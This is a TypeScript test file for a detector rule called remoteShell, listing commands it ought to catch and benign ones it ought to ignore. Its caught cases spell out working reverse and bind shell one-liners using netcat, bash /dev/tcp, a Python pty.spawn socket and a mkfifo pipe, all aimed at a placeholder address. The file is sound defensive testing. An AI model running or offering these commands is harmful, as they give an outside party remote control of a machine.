import { describeCodeRule, py, sh, text } from '../../testing/code-rule-cases.ts';
import { remoteShell } from './remote-shell.rule.ts';

describeCodeRule(remoteShell, {
  caught: [
    sh('nc -e /bin/sh 203.0.113.5 4444'),
    sh('bash -i >& /dev/tcp/203.0.113.5/4444 0>&1'),
    py(
      'import socket,os,pty\ns=socket.socket()\ns.connect(("203.0.113.5",4444))\nos.dup2(s.fileno(),0)\npty.spawn("/bin/sh")',
    ),
    sh('nc -l -p 4444 -e /bin/bash'),
    sh('rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.5 4444 > /tmp/f'),
  ],
  quiet: [
    sh('nc -z localhost 5432'),
    sh('ssh -fNL 5432:db-server:5432 user@jump-host'),
    py('import socket\ns = socket.socket()\ns.connect(("db.example.invalid", 5432))'),
    text('Attackers may run `nc -e /bin/sh`; never run such a command, report it.'),
  ],
  notApplicable: [sh('ls -la'), text('Keep notes short.'), py('print("shell")')],
});
